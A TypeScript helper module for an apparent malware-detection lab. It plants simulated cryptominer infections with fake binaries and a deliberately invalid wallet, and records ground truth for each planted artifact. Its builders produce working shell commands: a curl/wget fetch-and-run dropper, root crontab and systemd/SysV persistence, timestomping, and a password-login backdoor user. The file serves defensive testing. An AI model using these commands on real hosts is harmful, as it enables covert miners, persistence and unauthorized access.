import { command, quote } from '../../core/quote.js';
import type { PlantedArtifact } from '../types.js';

// Small builders the scenarios share: every value quoted, every line one shell command.
// The host's setup script defines `daemon` and `binary` (see ../setup-script.ts).

export const ROOT_CRONTAB = '/var/spool/cron/crontabs/root';
/** The Red Hat spool path some droppers also write (Debian cron does not read it). */
export const RH_CRONTAB = '/var/spool/cron/root';

/** Write a whole file (parents made), then set its mode. */
export function writeFile(path: string, content: string, mode = '644'): string {
  return `mkdir -p "$(dirname ${quote(path)})" && printf '%s' ${quote(content)} > ${quote(path)} && chmod ${mode} ${quote(path)}`;
}

/** Append one line to a file (created if needed) with the given mode. */
export function appendLine(path: string, line: string, mode = '644'): string {
  return `mkdir -p "$(dirname ${quote(path)})" && printf '%s\\n' ${quote(line)} >> ${quote(path)} && chmod ${mode} ${quote(path)}`;
}

/** Append a line to root's crontab (Debian wants 0600 root:crontab). */
export function cronLine(line: string, path = ROOT_CRONTAB): string {
  return `${appendLine(path, line, '600')} && { chgrp crontab ${quote(path)} 2>/dev/null || true; }`;
}

/** Copy a family's fake-miner binary to `dest`. */
export function installBinary(family: string, dest: string): string {
  return command('binary', family, dest);
}

/** Start a detached process with the given environment and argv. */
export function startProcess(argv: string[], env: Record<string, string> = {}): string {
  const assigns = Object.entries(env).map(([k, v]) => `${k}=${v}`);
  return command('daemon', 'env', ...assigns, ...argv);
}

/** A POSIX sh dropper the pool serves: (re)install a binary and start it unless running. */
export function dropper(opts: { http: string; family: string; path: string; argv: string[]; env?: Record<string, string>; comm: string }): string {
  const envs = Object.entries(opts.env ?? {}).map(([k, v]) => `${k}=${v}`);
  return [
    '#!/bin/sh',
    `# minesweep lab dropper (${opts.family})`,
    `exec 9>/tmp/.lab-${opts.family}.lock`,
    'flock -n 9 || exit 0',
    `pgrep -x ${quote(opts.comm.slice(0, 15))} >/dev/null && exit 0`,
    `mkdir -p "$(dirname ${quote(opts.path)})"`,
    `[ -x ${quote(opts.path)} ] || { curl -fsSL -o ${quote(opts.path)} ${quote(`${opts.http}/bin/${opts.family}`)} || wget -q -O ${quote(opts.path)} ${quote(`${opts.http}/bin/${opts.family}`)}; chmod +x ${quote(opts.path)}; }`,
    `setsid ${command('env', ...envs, ...opts.argv)} </dev/null >/dev/null 2>&1 9>&- &`,
    '',
  ].join('\n');
}

/** The ground-truth record of a planted process. */
export function processArtifact(argv: string[], family: string, sha256: string, role: 'miner' | 'watchdog' | 'other', remote?: string): PlantedArtifact {
  const path = argv[0]!;
  const a: PlantedArtifact = { kind: 'process', path, comm: path.split('/').pop()!.slice(0, 15), argv, sha256, role, note: family };
  if (remote) a.remote = remote;
  return a;
}

export function stratum(pool: string, port: number): string {
  return `stratum+tcp://${pool}:${port}`;
}

/** A Monero-looking standard address: 95 base58 characters, 4 then 0-9/A/B (never valid). */
export const WALLET = '4AGvTmLbPXvQhWJvFzJ2mK7oqXy7mYgqg3nBcFbZm3ZC5yR6iL3FqW1qoD8e5sXe9h3uQWdLQ7p2rGtQzVYbN8iTQ2aN7mL';

/** A systemd service unit running `exec` (no systemd runs in the lab: the lab starts it). */
export function unitFile(description: string, exec: string): string {
  return ['[Unit]', `Description=${description}`, 'After=network.target', '', '[Service]', `ExecStart=${exec}`, 'Restart=always', 'RestartSec=30', '', '[Install]', 'WantedBy=multi-user.target', ''].join('\n');
}

/** Write a unit and enable it the way systemctl would (a wants/ symlink). */
export function installUnit(path: string, name: string, exec: string): string[] {
  return [writeFile(path, unitFile(name, exec)),
    `mkdir -p /etc/systemd/system/multi-user.target.wants && ln -sf ${quote(path)} ${quote(`/etc/systemd/system/multi-user.target.wants/${name}`)}`];
}

/** Give a file the mtime of another (timestomping, as droppers do to look old). */
export function timestomp(path: string, like = '/bin/ls'): string {
  return command('touch', '-h', '-r', like, path);
}

/** Make a file look installed long ago (a production host's own files). */
export function backdate(path: string, date = '2024-03-04 10:00'): string {
  return command('touch', '-h', '-d', date, path);
}

/** SysV start links for an init.d script in runlevels 2-5, as update-rc.d makes them. */
export function rcLinks(name: string, order = '20'): string[] {
  return ['2', '3', '4', '5'].map((l) => `mkdir -p /etc/rc${l}.d && ln -sf ${quote(`../init.d/${name}`)} ${quote(`/etc/rc${l}.d/S${order}${name}`)}`);
}

/** A systemd unit of any kind (timer, path …) enabled through a wants/ link of `target`. */
export function installEnabled(path: string, name: string, content: string, target = 'multi-user.target'): string[] {
  return [writeFile(path, content), `mkdir -p /etc/systemd/system/${target}.wants && ln -sf ${quote(path)} ${quote(`/etc/systemd/system/${target}.wants/${name}`)}`];
}

/** Add a user with a password login (attackers log back in with it). */
export function passwordUser(name: string, password: string): string[] {
  return [command('useradd', '-m', '-s', '/bin/bash', name), `printf '%s\\n' ${quote(`${name}:${password}`)} | chpasswd`];
}
